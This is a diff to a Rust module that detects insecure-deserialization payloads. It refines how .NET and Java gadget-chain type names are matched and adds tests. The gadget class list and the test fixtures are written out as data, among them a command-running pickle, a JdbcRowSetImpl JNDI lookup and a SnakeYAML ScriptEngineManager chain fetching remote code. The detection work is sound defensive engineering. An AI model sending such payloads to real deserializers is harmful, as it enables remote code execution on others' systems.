@@ -12,9 +12,10 @@
 //! - Type names: a Json.NET `"$type"`, a fastjson `"@type"` or a Jackson `["…",` whose type is
 //!   one of [`TYPES`], classes that only gadget chains name (ysoserial.net's `ObjectDataProvider`,
 //!   `WindowsIdentity`, `Process`…, Java's `JdbcRowSetImpl`, `TemplatesImpl`…), anywhere in the
-//!   value; or a whole value that is such a type assembly-qualified
+//!   value; or a whole value that is such a .NET type assembly-qualified
 //!   (`System.Windows.Data.ObjectDataProvider, PresentationFramework`: a JSON body's `$type`
-//!   arrives from the JS layer as its own field). A `$type` of an app's own class is nothing, and
+//!   arrives from the JS layer as its own field) or such a Java class but an everyday API
+//!   (`com.sun.rowset.JdbcRowSetImpl`, not `javax.script.ScriptEngineManager`). A `$type` of an app's own class is nothing, and
 //!   a gadget type alone (a docs site's search for `System.Diagnostics.Process`) or in prose is
 //!   suspicious.
 //! - YAML: `!!python/object/apply:` and `!!python/object/new:` of a function that runs a command
@@ -103,7 +104,8 @@ const TYPES: &[&str] = &[
     "system.management.automation.psobject",
     "microsoft.visualstudio.text.formatting.textformattingrunproperties",
     "microsoft.powershell.editor",
-    // Java (fastjson `@type`, Jackson default typing, SnakeYAML tags).
+    // Java (fastjson `@type`, Jackson default typing, SnakeYAML tags): internal or pool classes
+    // that no one sends as a value but a gadget chain; [`EVERYDAY_JAVA`] last.
     "com.sun.rowset.jdbcrowsetimpl",
     "com.sun.org.apache.xalan.internal.xsltc.trax.templatesimpl",
     "org.apache.xalan.xsltc.trax.templatesimpl",
@@ -120,11 +122,16 @@ const TYPES: &[&str] = &[
     "com.zaxxer.hikari.hikariconfig",
     "com.mchange.v2.c3p0.jndirefforwardingdatasource",
     "com.mchange.v2.c3p0.wrapperconnectionpooldatasource",
-    "javax.script.scriptenginemanager",
-    "java.net.urlclassloader",
     "br.com.anteros.dbcp.anterosdbcpconfig",
     "oracle.jdbc.connector.oracleManagedConnectionFactory",
+    "javax.script.scriptenginemanager",
+    "java.net.urlclassloader",
 ];
+/// Index in [`TYPES`] of the first Java type.
+const FIRST_JAVA: usize = 22;
+/// Java types at the end of [`TYPES`] that are everyday APIs (a docs search names them), so they
+/// count only after a type key.
+const EVERYDAY_JAVA: usize = 2;
 
 fn types() -> &'static AhoCorasick {
     static T: OnceLock<AhoCorasick> = OnceLock::new();
@@ -165,10 +172,16 @@ pub fn types_in(s: &[u8]) -> (bool, bool) {
             continue;
         }
         suspicious = true;
-        // The whole value: the type, maybe `, Assembly[, Version=…]` with no other words.
+        // The whole value: a .NET type with `, Assembly[, Version=…]` and no other words, or a
+        // Java gadget class alone.
+        let index = m.pattern().as_usize();
         let whole = t.len() <= 400 && std::ptr::eq(t.as_ptr(), s[m.start()..].as_ptr()) && {
             let rest = &s[end..end + (t.len() - (end - m.start()))];
-            rest.len() > 2 && rest[0] == b',' && rest.windows(2).all(|w| w[1] != b' ' || w[0] == b',')
+            if index < FIRST_JAVA {
+                rest.len() > 2 && rest[0] == b',' && rest.windows(2).all(|w| w[1] != b' ' || w[0] == b',')
+            } else {
+                rest.is_empty() && index < TYPES.len() - EVERYDAY_JAVA
+            }
         };
         // After a type key: `"$type":"`, `"@type":"`, `!!`, or Jackson's `["`.
         let before = s[..m.start()].trim_ascii_end();
@@ -214,6 +227,12 @@ mod tests {
     use super::*;
 
     #[test]
+    fn the_type_list_is_split_where_its_constants_say() {
+        assert!(TYPES[FIRST_JAVA - 1].starts_with("microsoft.") && TYPES[FIRST_JAVA].starts_with("com.sun."));
+        assert_eq!(TYPES[TYPES.len() - EVERYDAY_JAVA], "javax.script.scriptenginemanager");
+    }
+
+    #[test]
     fn pickles_that_call_commands_are_confirmed() {
         for p in [
             &b"cos\nsystem\n(S'id'\ntR."[..],
@@ -246,6 +265,7 @@ mod tests {
             "[\"com.sun.rowset.jdbcrowsetimpl\",{\"datasourcename\":\"rmi://x/a\"}]",
             "!!javax.script.scriptenginemanager [!!java.net.urlclassloader [[!!java.net.url [\"http://x.example/\"]]]]",
             "\"system.delegateserializationholder, mscorlib\"",
+            "com.sun.rowset.jdbcrowsetimpl",
         ] {
             assert_eq!(types_in(p.as_bytes()), (true, true), "{p}");
         }
@@ -253,6 +273,7 @@ mod tests {
             "{\"$type\":\"myapp.models.order, myapp\",\"id\":3}",
             "system.diagnostics.process",
             "see [com.sun.rowset.jdbcrowsetimpl](https://docs.example/x)",
+            "javax.script.scriptenginemanager",
             "how do i start system.diagnostics.process with arguments?",
             "system.diagnostics.processor",
             "system.diagnostics.process and system.io are in the list",
